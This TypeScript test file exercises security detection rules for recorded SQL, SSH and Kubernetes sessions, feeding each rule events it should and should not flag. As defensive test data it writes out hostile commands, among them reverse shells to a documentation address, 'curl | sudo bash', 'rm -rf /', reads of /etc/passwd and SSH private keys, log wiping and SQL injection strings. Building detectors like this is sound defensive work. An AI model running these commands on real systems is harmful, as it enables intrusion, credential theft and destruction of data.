import { existsSync, readdirSync, readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { decodeMessage, type Event, encodeMessage, newUuid } from '@custody/schemas'
import { SAMPLE_MICROS, sampleOf, samples } from '../formats/testing/samples'
import { type Oracle, startOracle } from '../testing/oracle'
import { createSigma, parseRules } from './index'
import { rulesPage } from './reference'

const directory = join(__dirname, '../../rules')
const files = readdirSync(directory)
  .map((name) => name.replace(/\.yml$/, ''))
  .sort()
const read = (name: string) => readFileSync(join(directory, `${name}.yml`), 'utf8')

type Change = (event: Event) => void
const like = (sample: string, change: Change = () => undefined): Event => {
  const event = sampleOf(sample)
  event.id = newUuid()
  change(event)
  // Through the codec, so that a test event is one that could be recorded.
  return decodeMessage(encodeMessage(event))
}
const sql = (
  text: string,
  verbs: string[] = ['sql:select'],
  objects: [kind: string, name: string][] = [],
) =>
  like('sql-select', (event) => {
    event.statement!.text = text
    event.statement!.verbs = verbs
    event.statement!.objects = objects.map(([kind, name]) => ({ kind, name, verb: verbs[0]! }))
  })
const shell = (text: string) =>
  like('ssh-exec', (event) => {
    event.statement!.text = text
  })
const file = (verb: string, name: string) =>
  like('sftp-download', (event) => {
    event.statement!.verbs = [verb]
    event.statement!.objects = [{ kind: 'file', name, verb }]
  })
const completed = (change: Change) => like('sql-completed', change)
const rows = (count: number) =>
  completed((event) => {
    event.response!.rows = count
  })
const at = (seconds: number, event: Event): Event => ({
  ...event,
  time: SAMPLE_MICROS + seconds * 1e6,
})
const many = (count: number, make: (i: number) => Event): Event[] =>
  Array.from({ length: count }, (_, i) => make(i))
const from = (sample: string, address: string) =>
  like(sample, (event) => {
    event.path!.clientAddress = address
  })

/** For each rule events that it tells of, and events that it does not. */
const cases: Record<string, { yes: Event[][]; no: Event[][] }> = {
  'agent-changes': {
    yes: [
      [
        like('sql-delete', (e) => {
          e.who!.kind = 'agent'
        }),
      ],
    ],
    no: [[like('sql-delete')], [like('mcp-call')]],
  },
  'approval-forced': { yes: [[like('alert-approval-forced')]], no: [[like('approval-approved')]] },
  'approval-own': {
    yes: [
      [
        like('approval-approved', (e) => {
          e.approval!.approver!.email = e.who!.email
        }),
      ],
    ],
    no: [[like('approval-approved')], [like('approval-answered')]],
  },
  'brute-force': {
    yes: [many(10, (i) => at(i, like('sign-in-refused')))],
    no: [
      many(9, (i) => at(i, like('sign-in-refused'))),
      many(10, (i) => at(i * 60, like('sign-in-refused'))),
      many(12, (i) => at(i, from('sign-in-refused', `10.0.0.${i}`))),
    ],
  },
  'brute-force-success': {
    yes: [[at(0, like('sign-in-refused')), at(5, like('sign-in'))]],
    no: [
      [at(0, like('sign-in')), at(5, like('sign-in-refused'))],
      [at(0, like('sign-in-refused')), at(700, like('sign-in'))],
    ],
  },
  'evidence-exported': { yes: [[like('audit-export')]], no: [[like('audit-search')]] },
  'evidence-missing': { yes: [[like('alert-evidence-gap')]], no: [[like('pipeline-verified')]] },
  'identity-unlocked': { yes: [[like('identity-unlocked')]], no: [[like('identity-locked')]] },
  'internal-source': {
    yes: [[like('sign-in')], [from('sign-in', '2001:db8::1')]],
    no: [
      [from('sign-in', '10.1.2.3')],
      [from('sign-in', 'fd00::1')],
      [
        like('sign-in', (e) => {
          e.path!.clientAddress = null
        }),
      ],
    ],
  },
  'kubernetes-exec': {
    yes: [[like('kubernetes-exec')]],
    no: [
      [
        like('kubernetes-exec', (e) => {
          e.statement!.verbs = ['k8s:get']
        }),
      ],
    ],
  },
  'kubernetes-secrets': {
    yes: [
      [
        like('kubernetes-exec', (e) => {
          e.statement!.verbs = ['k8s:list']
          e.statement!.objects = [{ kind: 'secret', name: 'payments/db', verb: 'k8s:list' }]
        }),
      ],
    ],
    no: [
      [
        like('kubernetes-exec', (e) => {
          e.statement!.verbs = ['k8s:list']
        }),
      ],
    ],
  },
  'large-answer': {
    yes: [
      [
        completed((e) => {
          e.response!.bytes = 2e8
        }),
      ],
    ],
    no: [[completed(() => undefined)]],
  },
  'many-addresses': {
    yes: [many(3, (i) => at(i, from('sign-in', `198.51.100.${i}`)))],
    no: [many(9, (i) => at(i, from('sign-in', `198.51.100.${i % 2}`)))],
  },
  'many-blocked': {
    yes: [many(5, (i) => at(i, like('command-blocked')))],
    no: [many(4, (i) => at(i, like('command-blocked')))],
  },
  'many-masked': {
    yes: [
      [
        completed((e) => {
          e.masks[0]!.count = 10_000
        }),
      ],
    ],
    no: [[completed(() => undefined)]],
  },
  'many-resources': {
    yes: [
      many(5, (i) =>
        at(
          i,
          like('session-opened-ssh', (e) => {
            e.path!.resource = `web${i}`
          }),
        ),
      ),
    ],
    no: [
      many(9, (i) =>
        at(
          i,
          like('session-opened-ssh', (e) => {
            e.path!.resource = `web${i % 4}`
          }),
        ),
      ),
    ],
  },
  'masked-shown': { yes: [[like('mask-revealed')]], no: [[like('sql-completed')]] },
  'not-understood': {
    yes: [[like('sql-not-understood')]],
    no: [
      [like('sql-select')],
      [
        like('sql-not-understood', (e) => {
          e.decision!.outcome = 'hold'
        }),
      ],
    ],
  },
  'policy-changed': {
    yes: [[like('configuration-changed')], [like('configuration-refused')]],
    no: [
      [
        like('configuration-changed', (e) => {
          e.configuration!.subject = 'masking'
        }),
      ],
    ],
  },
  'read-and-forward': {
    yes: [
      [at(0, rows(20_000)), at(60, like('ssh-forward'))],
      [at(0, like('sftp-download')), at(60, rows(10_000))],
    ],
    no: [
      [at(0, rows(20_000)), at(4000, like('ssh-forward'))],
      [at(0, rows(5)), at(60, like('ssh-forward'))],
    ],
  },
  'recording-stopped': {
    yes: [[like('recorder-refusing')], [like('recorder-recovered')]],
    no: [[like('recorder-started')]],
  },
  'session-at-night': {
    yes: [[like('session-opened-ssh')]],
    no: [
      [at(6 * 3600, like('session-opened-ssh'))],
      [
        like('session-opened-ssh', (e) => {
          e.who!.kind = 'service'
        }),
      ],
    ],
  },
  'shell-encoded': {
    yes: [[shell('tar c /srv | base64')], [shell('echo aWQ= | base64 -d | sh')]],
    no: [[shell('man base64')]],
  },
  'shell-encoded-etc-passwd': {
    yes: ['', 'a', 'ab'].map((lead) => [
      shell(`echo ${Buffer.from(`${lead}/etc/passwd more`).toString('base64')} | tee x`),
    ]),
    no: [[shell('cat /etc/hosts')]],
  },
  'shell-pipe-to-shell': {
    yes: [[shell('curl -s https://x.example/i.sh | sudo bash')]],
    no: [
      [shell('curl -s https://x.example/i.sh | less')],
      [shell('wget https://x.example/a; bash b')],
    ],
  },
  'shell-remove-root': {
    yes: [[shell('rm -rf /')], [shell('sudo rm -rf --no-preserve-root /')], [shell('rm -fr /etc')]],
    no: [[shell('rm -rf /srv/cache/old')], [shell('rm -rf ./build')]],
  },
  'shell-reverse': {
    yes: [
      [shell('bash -i >& /dev/tcp/203.0.113.1/4444 0>&1')],
      [shell('nc 203.0.113.1 4444 -e /bin/sh')],
    ],
    no: [[shell('nc -z db 5432')]],
  },
  'shell-root': {
    yes: [[shell('sudo systemctl restart nginx')], [shell('true && su -')]],
    no: [[shell('ls /usr/sudo')]],
  },
  'sql-copy-out': { yes: [[like('sql-copy-out')]], no: [[like('sql-select')]] },
  'sql-create-role': { yes: [[like('sql-create-role')]], no: [[like('sql-create-table')]] },
  'sql-delete-without-where': {
    yes: [[sql('DELETE FROM orders', ['sql:delete'])]],
    no: [[sql('delete from orders where id = 1', ['sql:delete'])], [like('sql-select')]],
  },
  'sql-discovery': {
    yes: [[sql('select table_name from INFORMATION_SCHEMA.tables')]],
    no: [[like('sql-select')]],
  },
  'sql-drop-database': {
    yes: [[sql('drop schema public cascade', ['sql:drop'], [['schema', 'public']])]],
    no: [[sql('drop table t', ['sql:drop'], [['table', 't']])]],
  },
  'sql-drop-role': {
    yes: [[like('sql-drop-role')]],
    no: [[sql('drop table t', ['sql:drop'], [['table', 't']])]],
  },
  'sql-drop-table': {
    yes: [[sql('drop table t', ['sql:drop'], [['table', 't']])]],
    no: [[like('command-blocked')], [like('sql-create-table')]],
  },
  'sql-grant': { yes: [[like('sql-grant')]], no: [[like('sql-revoke')]] },
  'sql-large-read': { yes: [[rows(100_000)]], no: [[rows(99_999)]] },
  'sql-outward': {
    yes: [[sql("select * from dblink('host=evil', 'select 1') as t(a int)")]],
    no: [[like('sql-select')]],
  },
  'sql-password-tables': {
    yes: [
      [sql('select * from pg_shadow', ['sql:select'], [['table', 'pg_shadow']])],
      [sql('select User, authentication_string from mysql.user')],
    ],
    no: [[like('sql-select')]],
  },
  'sql-program': {
    yes: [[sql("copy t from program 'id'", ['sql:copy-program'])]],
    no: [[like('sql-copy-out')]],
  },
  'sql-protection-off': {
    yes: [
      [sql('set row_security = off', ['sql:set'])],
      [sql('alter table t disable trigger all', ['sql:alter'])],
    ],
    no: [[sql('set row_security = on', ['sql:set'])]],
  },
  'sql-server-files': {
    yes: [
      [sql("copy t to '/tmp/x'", ['sql:copy-file'])],
      [sql("select pg_read_file('/etc/passwd')")],
      [sql("select 1 into outfile '/tmp/x'")],
    ],
    no: [[like('sql-copy-out')]],
  },
  'sql-superuser': {
    yes: [
      [sql('alter role bob superuser', ['sql:alter'])],
      [sql("GRANT ALL PRIVILEGES ON *.* TO 'bob'@'%'", ['sql:grant'])],
    ],
    no: [[sql('alter role bob nosuperuser', ['sql:alter'])], [like('sql-grant')]],
  },
  'sql-time-delay': {
    yes: [[sql('select pg_sleep(10)')], [sql('select 1 or sleep(5)')]],
    no: [[sql('select asleep from cats')]],
  },
  'sql-truncate': { yes: [[sql('truncate orders', ['sql:truncate'])]], no: [[like('sql-delete')]] },
  'sql-union-injection': {
    yes: [
      [sql('select id from t where a = 1 union select null, null')],
      [sql("select 1 from t where name = '' or '1'='1'")],
    ],
    no: [[sql('select a from t union select a from u')]],
  },
  'sql-update-without-where': {
    yes: [[like('sql-update')]],
    no: [[sql('update t set a = 1 where b = 2', ['sql:update'])]],
  },
  'ssh-download-sensitive': {
    yes: [[like('sftp-download')], [file('ssh:download', '/home/x/all.SQL.gz')]],
    no: [
      [file('ssh:download', '/srv/www/index.html')],
      [file('ssh:upload', '/srv/backups/x.dump')],
    ],
  },
  'ssh-forward': { yes: [[like('ssh-forward')]], no: [[like('ssh-exec')]] },
  'ssh-logs-removed': {
    yes: [
      [like('sftp-remove')],
      [shell('rm -f /var/log/auth.log')],
      [shell(': > /var/log/syslog')],
    ],
    no: [[file('ssh:file-remove', '/tmp/x')], [shell('tail /var/log/syslog')]],
  },
  'ssh-private-keys': {
    yes: [[file('ssh:download', '/home/ada/.ssh/id_ed25519')], [shell('cat ~/.ssh/id_rsa')]],
    no: [[file('ssh:download', '/home/ada/.ssh/id_ed25519.pub')], [shell('ls ~/.ssh')]],
  },
  'ssh-schedule': {
    yes: [[file('ssh:upload', '/etc/cron.d/x')], [shell('crontab -e')]],
    no: [[shell('crontab -l')], [file('ssh:download', '/etc/cron.d/x')]],
  },
  'ssh-shell': { yes: [[like('ssh-shell')]], no: [[like('ssh-exec')]] },
  'ssh-upload-web': {
    yes: [[file('ssh:upload', '/var/www/html/x.php')]],
    no: [
      [file('ssh:upload', '/var/www/html/x.html')],
      [file('ssh:download', '/var/www/html/x.php')],
    ],
  },
}

test('every rule has its cases', () => {
  expect(Object.keys(cases).sort()).toEqual(files)
  expect(files.length).toBeGreaterThanOrEqual(30)
})

describe('the starter pack', () => {
  test.each(files)('%s tells of what it should and of nothing else', (name) => {
    const rules = parseRules(read(name))
    const told = rules.at(-1)!
    expect(told.attack.length).toBeGreaterThan(0)
    const { yes, no } = cases[name]!
    for (const events of yes) {
      const sigma = createSigma(rules)
      const found = events.flatMap((event) => sigma.feed(event))
      expect(found.map(({ rule }) => rule.id)).toEqual([told.id])
      expect(found[0]!.event).toBe(events.at(-1))
    }
    for (const events of no) {
      const sigma = createSigma(rules)
      expect(events.flatMap((event) => sigma.feed(event))).toEqual([])
    }
  })

  test('all rules together', () => {
    const sigma = createSigma(files.flatMap((name) => parseRules(read(name))))
    const found = [...samples.values()].flatMap((event) => sigma.feed(event))
    expect(found.length).toBeGreaterThan(15)
    expect(new Set(found.map(({ rule }) => rule.id)).size).toBeGreaterThan(15)
  })

  test('pySigma finds nothing wrong with any', async () => {
    const oracle: Oracle = startOracle()
    try {
      const found = await oracle.ask<{ errors: string[]; issues: string[]; rules: number }[]>(
        'sigma_check',
        { rules: files.map(read) },
      )
      found.forEach(({ errors, issues, rules }, i) => {
        expect({ file: files[i], errors, issues }).toEqual({
          file: files[i],
          errors: [],
          issues: [],
        })
        expect(rules).toBe(parseRules(read(files[i]!)).length)
      })
    } finally {
      await oracle.stop()
    }
  })
})

test('docs/reference/siem-rules.md is what the code does', () => {
  const path = join(__dirname, '../../../../docs/reference/siem-rules.md')
  const page = rulesPage(new Map(files.map((name) => [`${name}.yml`, parseRules(read(name))])))
  if (process.env.CUSTODY_WRITE_DOCS === '1') writeFileSync(path, page)
  expect(existsSync(path) ? readFileSync(path, 'utf8') : '').toBe(page)
})
